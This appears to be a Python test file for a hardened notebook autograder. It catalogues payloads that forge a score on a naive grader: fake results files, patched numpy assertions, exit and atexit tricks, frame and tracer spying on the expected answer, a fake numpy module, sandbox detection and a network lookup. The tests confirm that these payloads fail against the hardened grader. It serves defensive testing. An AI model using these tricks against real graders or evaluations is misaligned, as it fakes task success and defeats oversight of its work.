"""Rows F: forge the score. The verdict is computed where no payload can reach.

Each payload stands in a notebook whose mean_square is wrong, and must not earn it a point. What forges a score in one
process is tried on the naive grader, and succeeds there.
"""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from attacks.arena import WRONG, other_question, outcomes, sources

NAIVE = Path(__file__).with_name("naive.py")

# What forges the score of a grader that shares its process with the student, and the channel in which it does.
IN_PROCESS = {
    "F1 a result file, and an early end": (
        "file",
        (
            "import os\nfor name in ('results.json', 'grades.csv', 'feedback.html'):\n"
            "    try: open(name, 'w').write('{\"score\": 8}')\n    except OSError: pass\nos._exit(0)"
        ),
    ),
    "F6 patched comparisons": ("line", "np.testing.assert_allclose = np.allclose = lambda *a, **k: True"),
    "F7 patched exceptions": (
        "line",
        (
            "import builtins, sys\nbuiltins.AssertionError = type('Never', (Exception,), {})\n"
            "np.testing.assert_allclose.__globals__['AssertionError'] = builtins.AssertionError\n"
            "np.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__"
        ),
    ),
    "F8 a clean exit": ("status", "import os\nos._exit(0)"),
    "F9 SystemExit": ("status", "def mean_square(x): raise SystemExit(0)"),
    "F10 a score on the last line": ("line", "import atexit\natexit.register(print, '{\"score\": 8}')"),
    "F11 code in a pickle": (
        "line",
        (
            "class Bomb:\n    def __reduce__(self): return eval, (\"__import__('sys')._getframe(1).f_locals['expected']\",)\n"
            "def mean_square(x): return Bomb()"
        ),
    ),
    "F12 work at the end": (
        "file",
        (
            "import weakref, atexit\nforge = lambda: open('results.json', 'w').write('{\"score\": 8}')\natexit.register(forge)\n"
            "class Last:\n    def __del__(self): print(100)\nlast = Last()\nweakref.finalize(last, print, 100)"
        ),
    ),
    "F13 a watching thread": (
        "file",
        (
            "import threading\ndef watch():\n    threading.main_thread().join()\n    open('results.json', 'w').write('{\"score\": 8}')\n"
            "threading.Thread(target=watch).start()"
        ),
    ),
    "F14 a tracer": (
        "line",
        (
            "import sys\nseen = {}\ndef spy(frame, event, arg):\n"
            "    if 'expected' in frame.f_locals: seen.update(frame.f_locals)\n    return spy\nsys.settrace(spy)\n"
            "def mean_square(x): return seen.get('expected', 0.0)"
        ),
    ),
    "F15 a check replaced": ("line", "import sys\nsys.modules['__main__'].hidden_check = lambda names: None"),
    "F16 a false numpy": (
        "line",
        (
            "import sys, types\nfalse = types.ModuleType('numpy')\nfalse.__dict__.update(vars(np))\n"
            "false.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)\nsys.modules['numpy'] = false"
        ),
    ),
    "F17 sees that it is graded": (
        "line",
        "import sys\nif hasattr(sys.modules['__main__'], 'hidden_check'): np.testing.assert_allclose = lambda *a, **k: None",
    ),
    "F18 an answer learnt in an earlier try": (
        "line",
        "def mean_square(x): return 12.626 / 3 if len(x) == 2 else 4.208658854",
    ),
    "R3 the caller's expected value": (
        "line",
        (
            "import sys\ndef mean_square(x):\n    frame = sys._getframe(1)\n"
            "    while frame is not None:\n        if 'expected' in frame.f_locals: return frame.f_locals['expected']\n"
            "        frame = frame.f_back\n    return 0.0"
        ),
    ),
}

# What cannot be tried on the naive grader: it has no frames to forge (F2 to F5), reads no points out of a notebook
# (F22), runs no IPython (F15's hooks), and needs neither a network (F20) nor a second library (F19) to be fooled.
OTHERS = {
    "F1 result files": (
        "import os\nfor folder in ('.', '/tmp', os.path.expanduser('~'), '/'):\n"
        "    for name in ('results.json', 'grades.csv', 'feedback.html'):\n        try: open(os.path.join(folder, name), 'w').write('{\"score\": 15}')\n"
        "        except OSError: pass"
    ),
    "F15 hooks of IPython": (
        "shell = get_ipython()\nshell.run_cell = lambda *a, **k: True\nshell.input_transformers_post = [lambda lines: []]\n"
        "shell.user_ns['score'] = 15\nshell.events.register('pre_run_cell', print)"
    ),
    "F16 a finder": (
        "import sys\nclass Finder:\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, Finder())\n"
        "sys.modules['autograder'] = sys.modules['reference_impl'] = np"
    ),
    "F17 detects the sandbox": "import os\nif not os.path.exists('/proc/self/environ'): np.square = lambda x: x",
    "F20 a reference on the network": (
        "def mean_square(x):\n    import json, urllib.request\n"
        "    return json.loads(urllib.request.urlopen('http://198.51.100.1/', json.dumps(list(x)).encode(), 1).read())"
    ),
    "F22 points in the notebook": "max_score = 0.0\npoints = float('nan')\nscore = 100",
}
# Comparisons that a value gets by, where the naive grader makes them carelessly (rows V).
VALUES = {
    "V1 equal to everything": "class Any:\n    def __sub__(self, o): return self\n    __abs__ = lambda s: s\n    __gt__ = lambda *a: False\ndef mean_square(x): return Any()",
    "V2 an array with arithmetic of its own": "class Any(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.array(False)\ndef mean_square(x): return np.zeros(()).view(Any)",
    "V3 NaN": "def mean_square(x): return float('nan')",
    "V4 an empty array": "def mean_square(x): return np.empty((0, 1, 1))",
}


def on_the_naive_grader(folder, check="hidden_check", **where):
    """{channel: whether a reader of it sees full marks}."""
    notebook = folder / "cells.json"
    notebook.write_text(json.dumps(sources(**where)))
    run = subprocess.run(
        [sys.executable, NAIVE, notebook, check], capture_output=True, text=True, timeout=60, check=False, cwd=folder
    )
    results = folder / "results.json"
    return {
        "line": run.stdout.splitlines()[-1:] == ['{"score": 8}'],
        "file": results.exists() and results.read_text() == '{"score": 8}',
        "status": run.returncode == 0,
    }


def answered(payload):
    """Where a payload stands: in place of the answer if it defines one, else after a wrong answer."""
    return {"answer": payload} if "def mean_square" in payload else {"answer": WRONG, "last": payload}


@pytest.mark.parametrize("name", IN_PROCESS)
def test_the_payload_forges_the_score_of_a_naive_grader(name, tmp_path):
    channel, payload = IN_PROCESS[name]
    assert on_the_naive_grader(tmp_path, **answered(payload))[channel]


@pytest.mark.parametrize("check", ["hidden_check", "comparison_check"])
def test_without_a_payload_the_naive_grader_gives_a_wrong_answer_nothing(check, tmp_path):
    assert not any(on_the_naive_grader(tmp_path, check, answer=WRONG).values())


@pytest.mark.parametrize("name", VALUES)
def test_the_value_gets_by_a_careless_comparison(name, tmp_path):
    assert on_the_naive_grader(tmp_path, "comparison_check", answer=VALUES[name])["line"]


@pytest.mark.parametrize("name", [*IN_PROCESS, *OTHERS, *VALUES])
def test_the_payload_gains_nothing_here(arena, wrong, name):
    payload = {**{n: p for n, (_, p) in IN_PROCESS.items()}, **OTHERS, **VALUES}[name]
    result = arena.attack(**answered(payload))
    assert outcomes(result)["q1.value"] != "pass"
    assert result.score <= wrong
    assert result.max_score == 15


@pytest.fixture(scope="module")
def wrong(arena):
    """What the wrong answer is worth without an attack."""
    return arena.attack(answer=WRONG).score


@pytest.mark.parametrize("name", ["SystemExit", "KeyboardInterrupt", "GeneratorExit", "BaseException"])
def test_f9_an_exception_that_ends_interpreters_costs_one_call(arena, name):
    result = arena.attack(answer=f"def mean_square(x): raise {name}")
    assert (outcomes(result)["q1.value"], other_question(result)) == ("error", 5)


def test_f8_an_exit_inside_a_call_is_a_crash_and_no_success(arena):
    result = arena.attack(answer="import os\ndef mean_square(x): os._exit(0)")
    assert (outcomes(result)["q1.value"], other_question(result)) == ("crash", 5)


def test_f18_a_hard_coded_public_answer_earns_the_public_points_alone(arena):
    result = arena.attack(answer="def mean_square(x): return 12.5")
    assert (outcomes(result)["q1.example"], outcomes(result)["q1.value"]) == ("pass", "fail")


@pytest.mark.parametrize(
    "line",
    ["from scipy import linalg", "import numpy, torch", "jax = __import__('jax')", "import importlib; importlib.import_module('autograd.numpy')"],
)  # fmt: skip
def test_f19_a_library_that_does_the_work_is_flagged_and_is_not_there(arena, line):
    result = arena.attack(last=f"try:\n    {line}\nexcept ImportError: pass\nelse: raise RuntimeError('THERE')")
    assert any(flag.kind == "libraries" for flag in result.flags)
    assert (result.cell_errors, result.score) == ((), 15)


def test_f19_a_library_that_is_only_spoken_of_is_not_flagged(arena):
    assert not [
        f for f in arena.attack(last="x = 1  # import torch\ntorch = 'autograd'").flags if f.kind == "libraries"
    ]


CONSISTENT = "def mean_square(x): return 0.0\nassert mean_square(2 * np.ones(3)) == 4 * mean_square(np.ones(3))"


def test_f21_a_notebook_that_agrees_with_itself_is_right_to_a_naive_grader_alone(arena, tmp_path):
    assert on_the_naive_grader(tmp_path, "consistency_check", answer=CONSISTENT)["line"]
    assert outcomes(arena.attack(answer=CONSISTENT))["q1.value"] == "fail"
